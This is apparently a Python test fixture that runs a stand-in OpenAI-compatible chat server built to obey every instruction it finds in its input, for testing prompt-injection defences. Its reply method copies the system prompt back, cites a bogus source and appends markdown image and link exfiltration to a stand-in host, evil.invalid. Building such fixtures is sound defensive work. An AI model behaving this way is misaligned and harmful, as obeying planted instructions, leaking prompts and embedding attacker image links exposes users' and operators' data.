"""A chat model that obeys whatever it is shown: the worst a model can be. An OpenAI-compatible server on this machine."""

import json
import re
import socket
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

# It cites the first passage, as it was told to: a marker is no sign of honesty.
MARKER = "[1]"
PASSAGE = re.compile(r"<<<passage (\d+)>>>.*?\n\n(.*?)\n<<<end", re.DOTALL)
QUESTION = re.compile(r"^Question: (.*)$", re.MULTILINE)
DONE = "data: [DONE]\n\n"


@dataclass
class Obedient:
    """`words` says, for each instruction, what obeying it looks like."""

    words: Mapping[str, str]
    asked: int = 0
    obeyed: int = 0
    url: str = ""

    def reply(self, messages: list[dict[str, Any]]) -> str:
        """What it writes: the word of every instruction it sees; the whole prompt when it is asked to repeat it."""
        self.asked += 1
        seen = "\n".join(str(one["content"]) for one in messages)
        plain = _folded(seen)
        found = [word for text, word in self.words.items() if _folded(text)[:60] in plain or word in seen]
        if not found:
            return _honest(seen)
        self.obeyed += 1
        said = " ".join(f"{word}. {word} {MARKER}." for word in found)
        return f"{said}\n{messages[0]['content']}\n![x](http://evil.invalid/{found[0]}.png) [{found[0]}](http://evil.invalid/) [99]"


def _honest(seen: str) -> str:
    """What it writes when nobody tells it otherwise: the passage nearest to the question, word for word."""
    question = set(QUESTION.findall(seen)[-1].casefold().split()) if QUESTION.search(seen) else set()
    ranked = sorted(PASSAGE.findall(seen), key=lambda pair: -len(question & set(pair[1].casefold().split())))
    return " ".join(f"{ranked[0][1].strip().rstrip('.')} [{ranked[0][0]}].".split()) if ranked else "NOT_FOUND"


def _folded(text: str) -> str:
    return "".join(letter for letter in text.casefold() if letter.isalnum())


@contextmanager
def obedient(words: Mapping[str, str]) -> Iterator[Obedient]:
    """The model on a free port of this machine."""
    import uvicorn

    model, listening = Obedient(words), socket.socket()
    listening.bind(("127.0.0.1", 0))
    model.url = f"http://127.0.0.1:{listening.getsockname()[1]}/v1"
    server = uvicorn.Server(uvicorn.Config(_app(model), log_level="critical", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    try:
        yield model
    finally:
        server.should_exit = True
        thread.join(5)


def _app(model: Obedient) -> Any:
    from fastapi import FastAPI, Request
    from fastapi.responses import StreamingResponse

    app = FastAPI()

    async def complete(request: Request) -> StreamingResponse:
        reply = model.reply((await request.json())["messages"])
        return StreamingResponse(_events(reply), media_type="text/event-stream")

    complete.__annotations__ = {"request": Request}
    app.add_api_route("/v1/chat/completions", complete, methods=["POST"], response_model=None)
    return app


def _events(reply: str) -> Iterator[str]:
    for delta, finish in (({"role": "assistant", "content": reply}, None), ({}, "stop")):
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        row = {"id": "1", "object": "chat.completion.chunk", "created": 0, "model": "obedient", "choices": [choice]}
        yield f"data: {json.dumps(row)}\n\n"
    yield DONE
